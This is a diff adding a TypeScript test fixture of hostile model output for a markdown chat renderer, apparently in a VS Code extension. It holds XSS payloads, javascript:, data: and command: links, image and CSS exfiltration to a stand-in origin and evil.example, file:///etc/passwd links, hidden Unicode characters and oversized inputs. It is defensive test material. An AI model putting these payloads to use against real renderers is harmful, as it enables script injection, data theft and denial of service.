@@ -1,0 +1,201 @@
+/**
+ * Words of a model that mean harm. Whatever would run calls `trap`, whatever would be fetched lies at `origin`, and each
+ * sample says which of its words a reader must still see.
+ */
+
+/** One attempt. */
+export interface HostileSample {
+  readonly text: string;
+  /** Words that are shown, as they are shown. */
+  readonly shows: string;
+}
+
+/** Attempts of one kind. */
+export interface HostileGroup {
+  readonly name: string;
+  readonly samples: readonly HostileSample[];
+}
+
+/** Raw HTML: all of it is shown as the text that it is. */
+const asItIs = (...texts: readonly string[]): readonly HostileSample[] => texts.map((text) => ({ text, shows: text }));
+
+/** A link whose words stay when its address is no address. */
+const link = (address: string): HostileSample => ({
+  text: `[click ${address.length}](${address})`,
+  shows: `click ${address.length}`,
+});
+
+/** All kinds; `origin` is where nothing must arrive, such as "http://127.0.0.1:1234". */
+export function hostileGroups(origin: string): readonly HostileGroup[] {
+  return [
+    {
+      name: "scripts and event handlers",
+      samples: [
+        ...asItIs(
+          "<script>trap('script')</script>",
+          "text <script>trap('inline script')</script> text",
+          '<script src="' + origin + '/script.js"></script>',
+          "<img src=x onerror=trap('onerror')>",
+          "<iframe srcdoc=\"<script>parent.trap('srcdoc')</script>\"></iframe>",
+          "<details open ontoggle=trap('toggle')>",
+          "<body onload=trap('body')>",
+          "<input autofocus onfocus=trap('focus')>",
+          "<video><source onerror=trap('video')></video>",
+          "<dialog open onclick=alert('dialog')>",
+          "<object data=" + origin + "/object></object><embed src=" + origin + "/embed>",
+          "<form action=" + origin + "/form><button>Send</button></form>",
+          '"><script>trap("attribute")</script>',
+          "<?php trap('processing') ?>",
+          "<!-- --><script>trap('comment')</script> -->",
+          "<![CDATA[<script>trap('cdata')</script>]]>",
+        ),
+        { text: "`</code><script>trap('code')</script>`", shows: "</code><script>trap('code')</script>" },
+        {
+          text: "```html\n</code></pre><script>trap('fence')</script>\n```",
+          shows: "</code></pre><script>trap('fence')</script>",
+        },
+        { text: '```"><script>trap("language")</script>\nafter it\n```', shows: "after it" },
+        {
+          text: "| <script>trap('cell')</script> |\n|---|\n| <img src=x onerror=trap('cell2')> |",
+          shows: "<script>trap('cell')</script>",
+        },
+        { text: "&lt;script&gt;trap('entities')&lt;/script&gt;", shows: "<script>trap('entities')</script>" },
+        {
+          text: "__proto__ constructor toString\n\n[__proto__]: https://a.example/\n[constructor]: https://b.example/\n\n[constructor] [toString]",
+          shows: "[toString]",
+        },
+      ],
+    },
+    {
+      name: "SVG and MathML",
+      samples: asItIs(
+        '<svg onload="trap(\'svg\')"><animate onbegin=trap("animate") attributeName=x dur=1s></svg>',
+        "<svg><script>trap('svg script')</script></svg>",
+        "<svg><foreignObject><iframe srcdoc=\"<script>parent.trap('foreign')</script>\"></iframe></foreignObject></svg>",
+        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='trap(1)'/></svg>#x\"/></svg>",
+        '<svg><image href="' +
+          origin +
+          '/image.svg"/><a xlink:href="javascript:trap(\'xlink\')"><text>x</text></a></svg>',
+        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=trap('mathml')&gt;\">",
+        '<math href="javascript:trap(\'math\')">click</math><maction actiontype="statusline#' +
+          origin +
+          '/math">x</maction>',
+      ),
+    },
+    {
+      name: "links that are none",
+      samples: [
+        { text: "<a href=\"javascript:trap('a')\">click</a>", shows: "<a href=\"javascript:trap('a')\">" },
+        link("javascript:trap('link')"),
+        link("JaVaScRiPt:trap('upper case')"),
+        link("java&#10;script:trap('entity')"),
+        link("&#106;avascript:trap('entity as first')"),
+        link("data:text/html;base64,PHNjcmlwdD50cmFwKCdkYXRhJyk8L3NjcmlwdD4="),
+        link("data:text/html,<script>trap('plain')</script>"),
+        link("vbscript:trap('vb')"),
+        link("blob:null/0000"),
+        link("command:workbench.action.terminal.new"),
+        link("command:forge.newConversation"),
+        link("command:workbench.action.openSettings?%5B%22trap%22%5D"),
+        link("vscode://forge-chat.forge/x"),
+        link("vscode-remote://localhost/etc/passwd"),
+        link("file:///etc/passwd"),
+        link("//127.0.0.1/no-scheme"),
+        link("https://user:pass@evil.example/"),
+        link("\\\\evil.example\\share"),
+        { text: "<javascript:trap('autolink')>", shows: "javascript:trap('autolink')" },
+        { text: "[a]: javascript:trap('reference')\n\n[click reference][a]", shows: "click reference" },
+        { text: "[![badge](javascript:trap('nested'))](command:workbench.action.quit)", shows: "badge" },
+      ],
+    },
+    {
+      name: "images and what would be fetched",
+      samples: [
+        { text: "![remote picture](" + origin + "/leak.png?secret)", shows: "remote picture" },
+        { text: "![by script](javascript:trap('image'))", shows: "by script" },
+        { text: "![as data](data:image/svg+xml,<svg onload=trap('datasvg')>)", shows: "as data" },
+        { text: "![local file](/local.png)", shows: "local file" },
+        {
+          text: "[![picture in a link](" + origin + "/in-link.png)](" + origin + "/target)",
+          shows: "picture in a link",
+        },
+        { text: "![by reference][r]\n\n[r]: " + origin + "/reference.png", shows: "by reference" },
+        ...asItIs(
+          '<img src="' + origin + '/img.png" srcset="' + origin + '/srcset.png 2x">',
+          '<link rel=stylesheet href="' +
+            origin +
+            '/evil.css"><link rel=prefetch href=' +
+            origin +
+            "/prefetch><link rel=preconnect href=" +
+            origin +
+            ">",
+          "<link rel=dns-prefetch href=//leak.evil.example>",
+          "<style>@import '" + origin + "/import.css'; body { background: url(" + origin + "/background) }</style>",
+          "<style>@font-face { font-family: a; src: url(" + origin + "/font) } * { font-family: a }</style>",
+          '<style>textarea[value^="a"] { background: url(' + origin + "/a) }</style>",
+          '<div style="background:url(' + origin + '/style)">x</div>',
+          '<meta http-equiv="refresh" content="0;url=' + origin + '/refresh">',
+          '<base href="' + origin + '/base/">',
+          "<audio src=" + origin + "/audio autoplay></audio><track src=" + origin + "/track>",
+        ),
+      ],
+    },
+    {
+      name: "characters that hide",
+      samples: [
+        { text: "\u202eevil\u202c \u2066x\u2069 zero\u200bwidth \u{e0041}\u{e0042}", shows: "U+202Eevil" },
+        { text: "before the tags \u{e0069}\u{e0067}\u{e006e} behind the tags", shows: "U+E0069" },
+        { text: "[shown\u202egnp.exe](https://example.com/\u202egnp.exe)", shows: "U+202E" },
+        { text: "`code with\u200b a hidden\u2060 one`", shows: "U+200B" },
+        { text: "```\nreturn \u202e // admin \u2066\n```", shows: "return U+202E" },
+        {
+          text: "\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 after ANSI",
+          shows: "U+001B[31mred",
+        },
+        { text: "\u0000null\u0000 \uffff \ud800 lone half", shows: "lone half" },
+        { text: `stacked ${"e" + "\u0301".repeat(2_000)} behind the stack`, shows: "behind the stack" },
+        { text: `bits ${"\ufe00\u{e0101}".repeat(20)} in selectors`, shows: "bits U+FE00 U+E0101" },
+        { text: `bits ${"\u200c\u200d".repeat(20)} in joiners`, shows: "bits U+200C U+200D" },
+        { text: "soft\u00adhyphen, no\u00a0break, \ufeffmark", shows: "U+FEFF" },
+      ],
+    },
+  ];
+}
+
+/** Text that is too long or too deep for what reads and draws it; each ends with the words that `shows` gives. */
+export function hostileGiants(): readonly HostileSample[] {
+  const giant = (name: string, text: string): HostileSample => ({ text: `${text} ${name}`, shows: name });
+  const million = 1_000_000;
+  const deep = 10_000;
+  return [
+    giant("end of the long line", "word and ".repeat(million / 9)),
+    giant("end of the line without a space", "x".repeat(million)),
+    { text: `\`\`\`js\n${"f(1);".repeat(million / 5)}\nend of the long code\n\`\`\`\n`, shows: "end of the long code" },
+    {
+      text: `\`\`\`js\n${"f(1);".repeat(90_000)}\nend of the code on one line\n\`\`\`\n`,
+      shows: "end of the code on one line",
+    },
+    { text: `\`\`\`js\n${"f(1);\n".repeat(70_000)}end of the code\n\`\`\`\n`, shows: "end of the code" },
+    giant("end of the large table", `| a | b |\n|---|---|\n${"| 1 | 2 |\n".repeat(5_000)}\n\n`),
+    giant("end of the long address", `[a](https://example.com/${"p/".repeat(million / 2)})`),
+    giant("end of the long row", `| a |\n|---|\n| ${"cell ".repeat(million / 5)} |\n\n`),
+    giant("end of the deep quotation", `${">".repeat(deep)} in it\n\n`),
+    giant("end of the deep list", `${"- ".repeat(deep)}in it\n\n`),
+    giant(
+      "end of the indented list",
+      `${Array.from({ length: 1_000 }, (_, depth) => `${"  ".repeat(depth)}- item`).join("\n")}\n\n`,
+    ),
+    giant("end of the brackets", "[".repeat(deep) + "]".repeat(deep)),
+    giant("end of the image brackets", "![".repeat(deep) + "](x)".repeat(deep)),
+    giant("end of the emphasis", "*a **b ".repeat(deep)),
+    giant("end of the elements", "<div>".repeat(deep) + "</div>".repeat(deep)),
+    giant("end of the ticks", Array.from({ length: 1_000 }, (_, length) => "`".repeat(length + 1)).join("a")),
+    giant(
+      "end of the references",
+      Array.from({ length: deep }, (_, index) => `[r${index}]: https://example.com/${index}`).join("\n") + "\n\n",
+    ),
+    giant("end of the wide table", `|${"a|".repeat(2_000)}\n|${"-|".repeat(2_000)}\n|${"b|".repeat(2_000)}\n\n`),
+    giant("end of the entities", "&lt;".repeat(deep) + "&#x26;".repeat(deep)),
+    giant("end of the addresses", "https://a.example/( ".repeat(deep)),
+  ];
+}
